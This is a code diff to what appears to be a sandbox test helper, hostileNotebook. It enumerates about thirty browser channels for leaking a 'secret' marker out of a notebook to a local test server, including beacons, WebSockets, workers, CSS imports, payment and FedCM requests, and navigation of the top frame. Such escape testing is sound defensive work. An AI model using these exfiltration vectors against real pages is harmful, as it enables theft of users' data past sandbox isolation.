@@ -116,33 +116,33 @@ export function hostileNotebook({ udp, tcp, hash }: Target): string {
     await attempt("inline script", () => { const s = document.createElement("script"); s.textContent = code; document.body.append(s); });
     await attempt("blob import", () => { const s = document.createElement("script"); s.type = "module"; s.src = URL.createObjectURL(new Blob([code], {type: "text/javascript"})); document.body.append(s); });
     await attempt("worker", () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${at}worker'); postMessage(1)"]))); w.onmessage = done; w.onerror = fail; }));
-    await attempt("shared worker", () => new Promise((done, fail) => { const w = new SharedWorker("data:text/javascript,fetch('${at}shared')"); w.onerror = fail; }));
+    await attempt("shared worker", () => new Promise((done, fail) => { const w = new window.SharedWorker("data:text/javascript,fetch('${at}shared')"); w.onerror = fail; }));
     await attempt("service worker", () => navigator.serviceWorker.register("${at}sw"));
-    await attempt("worklet", async () => (await new AudioContext().audioWorklet.addModule("${at}worklet")));`,
+    await attempt("worklet", async () => (await new window.AudioContext().audioWorklet.addModule("${at}worklet")));`,
     `
     const at = "${at}";
     await attempt("fetch", () => fetch(at + "fetch", {mode: "no-cors"}));
     await attempt("fetch of a child", () => child().contentWindow.fetch(at + "fetch-child"));
     await attempt("keepalive", () => fetch(at + "keepalive", {keepalive: true, mode: "no-cors"}));
-    await attempt("fetchLater", () => fetchLater(at + "later", {activateAfter: 0}));
+    await attempt("fetchLater", () => window.fetchLater(at + "later", {activateAfter: 0}));
     await attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", at + "xhr"); x.send(); });
     await attempt("beacon", () => navigator.sendBeacon(at + "beacon", "secret"));
     await attempt("websocket", () => new WebSocket("ws://127.0.0.1:${tcp}/?secret"));
-    await attempt("websocket stream", () => new WebSocketStream("ws://127.0.0.1:${tcp}/?secret").opened);
+    await attempt("websocket stream", () => new window.WebSocketStream("ws://127.0.0.1:${tcp}/?secret").opened);
     await attempt("eventsource", () => new EventSource(at + "events"));
-    await attempt("webtransport", () => new WebTransport("https://127.0.0.1:${udp}/secret").ready);
+    await attempt("webtransport", () => new window.WebTransport("https://127.0.0.1:${udp}/secret").ready);
     await attempt("import", () => (0, eval)("import('" + at + "import')"));
     await attempt("import made", () => new Function("return import('" + at + "import-made')")());
     await attempt("import map", () => { const s = document.createElement("script"); s.type = "importmap"; s.text = JSON.stringify({imports: {"y": at + "mapped"}}); document.head.append(s); });
-    await attempt("css", () => new CSSStyleSheet().replace("@import '" + at + "sheet'; a { background: url(" + at + "sheet-url) }"));
-    await attempt("fontface", () => new FontFace("x", "url(" + at + "fontface)").load());
+    await attempt("css", () => new window.CSSStyleSheet().replace("@import '" + at + "sheet'; a { background: url(" + at + "sheet-url) }"));
+    await attempt("fontface", () => new window.FontFace("x", "url(" + at + "fontface)").load());
     await attempt("image", () => { new Image().src = at + "image"; });
     await attempt("audio", () => new Audio(at + "audio").play());
-    await attempt("media session", () => { navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: at + "artwork"}]}); });
-    await attempt("payment", () => new PaymentRequest([{supportedMethods: at + "pay"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment());
+    await attempt("media session", () => { navigator.mediaSession.metadata = new window.MediaMetadata({artwork: [{src: at + "artwork"}]}); });
+    await attempt("payment", () => new window.PaymentRequest([{supportedMethods: at + "pay"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment());
     await attempt("fedcm", () => navigator.credentials.get({identity: {providers: [{configURL: at + "fedcm", clientId: "x"}]}}));
-    await attempt("presentation", () => new PresentationRequest(at + "presentation").getAvailability());
-    await attempt("notification", () => new Notification("x", {icon: at + "notification"}));
+    await attempt("presentation", () => new window.PresentationRequest(at + "presentation").getAvailability());
+    await attempt("notification", () => new window.Notification("x", {icon: at + "notification"}));
     await attempt("popup", () => window.open(at + "popup"));
     await attempt("top", () => { window.top.location = at + "top"; });
     await attempt("parent", () => { window.parent.location = at + "parent"; });
